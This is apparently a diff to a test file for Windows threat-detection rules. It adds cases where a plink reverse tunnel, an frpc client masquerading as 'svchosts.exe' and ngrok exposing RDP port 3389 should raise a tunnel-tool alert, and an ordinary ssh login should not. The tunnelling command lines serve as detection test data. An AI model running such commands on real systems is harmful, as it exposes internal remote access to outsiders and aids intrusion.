@@ -66,7 +66,13 @@ CASES: list[tuple[dict[str, Any], tuple[str, str] | None]] = [
     (user_created("DefaultAcc0unt"), ("exhunt_local_user_created", "medium")),
     (member_added("S-1-5-32-544", "Administratoren"), ("exhunt_local_admin_group_member_added", "high")),
     (member_added("S-1-5-32-555", "Remote Desktop Users"), ("exhunt_rdp_group_member_added", "medium")),
+    (sysmon1("C:\\ProgramData\\plink.exe -pw x -R 0.0.0.0:4433:127.0.0.1:3389 a@203.0.113.7 -P 443",
+             "C:\\ProgramData\\plink.exe"), ("exhunt_tunnel_tool", "high")),
+    (security4688("C:\\ProgramData\\svchosts.exe -c C:\\ProgramData\\frpc.toml", "C:\\ProgramData\\svchosts.exe"),
+     ("exhunt_tunnel_tool", "high")),
+    (sysmon1("C:\\Users\\Public\\ngrok.exe tcp 3389", "C:\\Users\\Public\\ngrok.exe"), ("exhunt_tunnel_tool", "high")),
     (sysmon1("net localgroup administrators", NET), None),
+    (sysmon1("ssh admin@backup01", "C:\\Windows\\System32\\OpenSSH\\ssh.exe"), None),
     (user_created("WDAGUtilityAccount"), None),
     (member_added("S-1-5-32-544", "Administrators", ETS), None),
 ]
